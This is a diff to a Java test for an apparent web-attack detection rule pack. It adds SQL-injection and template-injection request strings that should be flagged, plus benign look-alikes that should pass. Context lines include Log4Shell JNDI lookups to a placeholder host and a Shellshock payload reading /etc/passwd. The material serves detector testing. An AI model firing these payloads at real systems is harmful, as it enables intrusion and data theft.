@@ -92,6 +92,14 @@ public class RulePackTest {
       "/login?user=*(%7C(mail=*))|ldapi|",
       "/files/*(%7C(objectclass=*))|ldapi|",
       "/p?q=1%20uni%2F**%2Fon%20sel%2F**%2Fect%201|sqli|",
+      "/p?q=hi%22%22)%20or%20(%22%22a%22%22=%22%22a|sqli|",
+      "/p?q=x%20or%20%27a%27=%27a|sqli|",
+      "/p?q=1%E2%80%B2)%20and%20%271%E2%80%B2=%271|sqli|",
+      "/p?id=1or1=1|sqli|",
+      "/p?u=x%20or%20username%20like%20char(37)|sqli|",
+      "/p?id=%5Cx27UNION%20SELECT%201|sqli|",
+      "/s?q=%7B%7B4%2B4%7D%7D|cmdi|",
+      "/s?q=%7B%25%20for%20c%20in%20%5B1,2%5D%25%7D%7B%7Bc%7D%7D%7B%25%20endfor%25%7D|cmdi|",
       "/|log4shell|${jndi:ldap://x.example/a}",
       "/?x=%24%7B%24%7B::-j%7Dndi:rmi://x.example/a%7D|log4shell|",
       "/cgi-bin/status|shellshock|() { :; }; echo; /bin/cat /etc/passwd",
@@ -163,7 +171,10 @@ public class RulePackTest {
       "//images/logo.png", "/shop//usr-guide/etc.html", "/t?state=Li4vabc",
       "/%7B%7Bitem.url%7D%7D", "/search?q=7*7%3D49", "/theme?color=0x64a0ff",
       "/guides/sleep%205%20tips", "/search?q=sleep+5+hours", "/search?q=(a+%7C+b)+or+c",
-      "/search?q=%40%40+operator", "/search?q=css+a%2F*note*%2Fb", "/files/*/readme"})
+      "/search?q=%40%40+operator", "/search?q=css+a%2F*note*%2Fb", "/files/*/readme",
+      "/search?q=cats+or+%27dogs%27", "/search?q=%22to+be%22+or+%22not+to+be%22",
+      "/search?q=reunion+select+tickets", "/search?q=4or4+ticket", "/search?q=%7B%7Bitem.name%7D%7D",
+      "/search?q=100%25+%7B%25+wool+%25%7D"})
   void leavesBenignTrafficAlone(String target) {
     leavesBenignAgentsAlone(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
         + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36");
@@ -325,7 +336,7 @@ public class RulePackTest {
   @Test
   void ruleSetCarriesVersionAndHash() throws IOException {
     RuleSet rs = RuleSet.parse(builtIn());
-    assertThat(rs.version()).contains("evident 2026.11.3");
+    assertThat(rs.version()).contains("evident 2026.11.4");
     assertThat(rs.sha256()).hasSize(64);
     List<RuleFile> changed = new ArrayList<>(builtIn());
     changed.add(new RuleFile("x.yaml", "# nothing"));
